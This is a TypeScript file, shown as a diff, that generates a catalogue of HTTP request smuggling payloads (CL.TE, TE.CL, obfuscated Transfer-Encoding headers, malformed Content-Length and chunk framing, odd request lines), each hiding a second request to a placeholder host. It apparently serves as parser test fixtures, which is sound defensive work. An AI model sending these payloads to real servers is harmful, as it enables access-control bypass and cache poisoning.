@@ -1,0 +1,141 @@
+/** Ways to send one request that a careless reader takes for two. `<OWN>` stands for a number of each case's own. */
+const route = '/public/v1/mirror/campaign/<OWN>/mirror';
+const hidden = `GET ${route}?hidden HTTP/1.1\r\nHost: mirror.example.com\r\nX-Hidden: `;
+const asChunk = (text: string) => `${text.length.toString(16)}\r\n${text}\r\n0\r\n\r\n`;
+
+function post(lines: readonly string[], body: string, start = `POST ${route} HTTP/1.1`): string {
+  return [start, 'Host: mirror.example.com', 'Content-Type: application/json', ...lines, '', body].join(
+    '\r\n',
+  );
+}
+
+const chunked = 'Transfer-Encoding: chunked';
+/** Read by its length it is one, by its chunks another one follows; or the other way round. */
+const lengthFirst = (coding: string | readonly string[]) =>
+  post([...[coding].flat(), `Content-Length: ${5 + hidden.length}`], `0\r\n\r\n${hidden}`);
+const chunksFirst = (coding: string | readonly string[]) => {
+  const body = asChunk(`${hidden}\r\n\r\n`);
+  return post([`Content-Length: ${body.indexOf('\r\n') + 2}`, ...[coding].flat()], body);
+};
+const inChunks = (body: string) => post([chunked], body);
+
+/** Spellings of the coding that some readers understand and others do not (TE.TE). */
+const codings: Readonly<Record<string, string | readonly string[]>> = {
+  'as it is': chunked,
+  'in capitals': 'TRANSFER-ENCODING: CHUNKED',
+  'a space before the colon': 'Transfer-Encoding : chunked',
+  'a tabulator before it': 'Transfer-Encoding:\tchunked',
+  'a vertical tabulator before it': 'Transfer-Encoding:\x0bchunked',
+  'a line feed before it': 'Transfer-Encoding:\n chunked',
+  folded: 'Transfer-Encoding:\r\n chunked',
+  'a space before the name': ' Transfer-Encoding: chunked',
+  'behind a folded line': 'X: a\r\n Transfer-Encoding: chunked',
+  'behind a bare line feed': 'X: a\nTransfer-Encoding: chunked',
+  'behind a bare carriage return': 'X: a\rTransfer-Encoding: chunked',
+  'in quotes': 'Transfer-Encoding: "chunked"',
+  'with a parameter': 'Transfer-Encoding: chunked;q=1',
+  'another word': 'Transfer-Encoding: xchunked',
+  identity: 'Transfer-Encoding: identity',
+  'identity, then it': 'Transfer-Encoding: identity, chunked',
+  'it, then identity': 'Transfer-Encoding: chunked, identity',
+  'twice in a line': 'Transfer-Encoding: chunked, chunked',
+  'an empty element': 'Transfer-Encoding: , chunked',
+  'in two lines': [chunked, chunked],
+  'in two lines, the second another': [chunked, 'Transfer-Encoding: x'],
+  'in two lines, the first another': ['Transfer-Encoding: x', chunked],
+  'an underscore': 'Transfer_Encoding: chunked',
+  'a null in the name': 'Transfer\0-Encoding: chunked',
+  'a null behind it': 'Transfer-Encoding: chunked\0',
+  'a letter that looks like it': 'Transfer-Encoding: chun\u212aed',
+  'taken away by Connection': ['Connection: Transfer-Encoding', chunked],
+};
+
+const body = `${hidden}\r\n\r\n`;
+const { length } = body;
+
+/** By length alone. */
+const lengths: Readonly<Record<string, readonly string[]>> = {
+  'CL.0': ['Content-Length: 0'],
+  'no length': [],
+  'two lengths, the first one zero': ['Content-Length: 0', `Content-Length: ${length}`],
+  'two lengths, the second one zero': [`Content-Length: ${length}`, 'Content-Length: 0'],
+  'two equal lengths': [`Content-Length: ${length}`, `Content-Length: ${length}`],
+  'a list of lengths': [`Content-Length: 0, ${length}`],
+  'a signed length': [`Content-Length: +${length}`],
+  'a hexadecimal length': [`Content-Length: 0x${length.toString(16)}`],
+  'a length with a leading zero': [`Content-Length: 0${length}`],
+  'a length beyond 2^64': [`Content-Length: ${2n ** 64n}`],
+  'a length with a space before the colon': [`Content-Length : ${length}`],
+  'a folded length': [`Content-Length:\r\n ${length}`],
+  'a length behind a bare line feed': [`X: a\nContent-Length: ${length}`],
+  'a length taken away by Connection': ['Connection: Content-Length', `Content-Length: ${length}`],
+  'a length that waits for 100': ['Expect: 100-continue', `Content-Length: ${length}`],
+  'an odd Expect': ['Expect: 100-continue, x', `Content-Length: ${length}`],
+  'an upgrade to HTTP/2': [
+    'Connection: Upgrade, HTTP2-Settings',
+    'Upgrade: h2c',
+    'HTTP2-Settings: AAMAAABkAAQ',
+    `Content-Length: ${length}`,
+  ],
+  'an upgrade to WebSocket': [
+    'Connection: Upgrade',
+    'Upgrade: websocket',
+    'Sec-WebSocket-Version: 13',
+    `Content-Length: ${length}`,
+  ],
+};
+
+const one = '1\r\n{\r\n';
+const chunkings: Readonly<Record<string, string>> = {
+  'an extension': `1;a=b\r\n{\r\n0\r\n\r\n`,
+  'an extension that ends with a line feed': `1;a\n{\r\n0\r\n\r\n${body}`,
+  'an extension with a carriage return': `1;\r{\r\n0\r\n\r\n${body}`,
+  'an extension with a hidden chunk': `1;\nx\r\n0\r\n\r\n${body}`,
+  'a size beyond 2^64': `1${'0'.repeat(16)}1\r\n{\r\n0\r\n\r\n${body}`,
+  'a size of zeros': `${'0'.repeat(30)}\r\n\r\n${body}`,
+  'a size beyond 2^32': `100000000\r\n{\r\n0\r\n\r\n${body}`,
+  'a size in 0x': `0x1\r\n{\r\n0\r\n\r\n${body}`,
+  'a negative size': `-1\r\n{\r\n0\r\n\r\n${body}`,
+  'a space before a size': ` 1\r\n{\r\n0\r\n\r\n${body}`,
+  'a space behind a size': `1 \r\n{\r\n0\r\n\r\n${body}`,
+  'line feeds only': `1\n{\n0\n\n${body}`,
+  'a chunk without its end': `1\r\n{0\r\n\r\n${body}`,
+  'a chunk that ends with a line feed': `1\r\n{\n0\r\n\r\n${body}`,
+  'the end with line feeds': `${one}0\n\n${body}`,
+  'the end without an empty line': `${one}0\r\n${body}`,
+  'a trailer that frames': `${one}0\r\nContent-Length: ${length}\r\n\r\n${body}`,
+  'a trailer with a coding': `${one}0\r\n${chunked}\r\n\r\n${body}`,
+};
+
+const starts: Readonly<Record<string, string>> = {
+  'HTTP/1.0 that keeps alive': `POST ${route} HTTP/1.0\r\nConnection: keep-alive`,
+  'an absolute target with another host': `POST http://other.example${route} HTTP/1.1`,
+  'a target of another scheme': `POST HTTPS://other.example${route} HTTP/1.1`,
+  'a second request line': `POST ${route} HTTP/1.1\r\nGET ${route}?hidden HTTP/1.1`,
+  'a break in the target': `POST ${route}?\x20HTTP/1.1\r\nX: y HTTP/1.1`,
+  'an encoded break in the target': `POST ${route}?%20HTTP/1.1%0d%0aX:%20y HTTP/1.1`,
+  'a bare line feed': `POST ${route} HTTP/1.1\nX: y`,
+  'HTTP/0.9': `GET ${route}\r\n`,
+  'HTTP/2.0': `POST ${route} HTTP/2.0`,
+  'a fragment': `POST ${route}#x HTTP/1.1`,
+};
+
+const named = (kind: string, all: Readonly<Record<string, string>>) =>
+  Object.entries(all).map(([name, text]) => [`${kind}: ${name}`, text] as const);
+const mapped = <T>(all: Readonly<Record<string, T>>, of: (one: T) => string) =>
+  Object.fromEntries(Object.entries(all).map(([name, it]) => [name, of(it)]));
+
+/** Bytes, one a character, by what they try. */
+export const smuggled: readonly (readonly [name: string, bytes: string])[] = [
+  ...named('CL.TE', mapped(codings, lengthFirst)),
+  ...named('TE.CL', mapped(codings, chunksFirst)),
+  ...named(
+    'by length',
+    mapped(lengths, (lines) => post(lines, body)),
+  ),
+  ...named('by chunks', mapped(chunkings, inChunks)),
+  ...named(
+    'by the start',
+    mapped(starts, (start) => post([`Content-Length: ${length}`], body, start)),
+  ),
+].map(([name, text]) => [name, Buffer.from(text).toString('latin1')]);
